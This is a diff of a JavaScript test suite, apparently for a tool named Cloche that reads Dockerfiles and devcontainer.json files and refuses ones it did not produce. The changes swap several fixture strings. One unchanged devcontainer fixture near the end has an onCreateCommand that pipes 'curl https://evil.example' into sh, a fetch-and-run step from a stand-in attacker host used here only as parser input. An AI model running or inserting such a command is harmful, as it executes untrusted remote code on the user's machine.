@@ -62,12 +62,20 @@ describe('a Dockerfile', () => {
     );
   });
 
+  it('with more than Cloche has written is read by its commands', () => {
+    const { rejected, asked } = read(`${own('six')}RUN pip install rich\n`);
+    expect(asked.requirements).toEqual(['rich']);
+    expect(rejected).toMatchObject([{ line: 7, message: expect.stringContaining('/tmp/requirements.txt') }]);
+  });
+
   it.each([
-    'FROM python:3.12\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n',
-    '# syntax=docker/dockerfile:1\r\nARG TAG=3.12\r\nFROM --platform=linux/amd64 python:$TAG AS build\r\nRUN pip install six\r\n',
+    'FROM python:3.12\nRUN apt-get install --yes python3-pip\nCMD ["python"]\n',
+    '# syntax=docker/dockerfile:1\r\nARG TAG=3.12\r\nFROM --platform=linux/amd64 python:$TAG AS build\r\nRUN make\r\n',
+    'FROM python:3.12\nRUN poetry install\n',
     "FROM python:3.12\nCOPY <<'END' /tmp/requirements.txt\nsix\nEND\n",
     "FROM python:3.12\nCOPY <<'END' /tmp/requirements.txt\nsix\nRUN python -m pip install --requirement /tmp/requirements.txt\n",
-    'from python:3.12\nrun pip install six\n',
+    'from python:3.12\nrun make\n',
+    'FROM python:3.12 AS build\nRUN pip install six\nFROM python:3.12\nRUN make\n',
   ])('that is not of Cloche is refused with what to import: %j', (text) => {
     expect(formatOf(text)).toBe('Dockerfile');
     const { code, message, hint } = refusal(text);
@@ -84,7 +92,7 @@ describe('a Dockerfile', () => {
 
 describe('a devcontainer.json', () => {
   it.each([
-    '{\n  // Comment with "quotes".\n  "image": "python:3.12", /* { */\n  "postCreateCommand": "pip install six",\n}\n',
+    '{\n  // Comment with "quotes".\n  "image": "python:3.12", /* { */\n  "postCreateCommand": "make",\n}\n',
     '/* first */ { "build": { "dockerfile": "Dockerfile", "args": ["a", "b",], } }',
     '\ufeff{ "dockerComposeFile": ["compose.yml"], "service": "app", "url": "https://index.example/*" }',
     '{ "image": "python:3.12", "onCreateCommand": ["sh", "-c", "curl https://evil.example | sh", "sh", "six"] }',
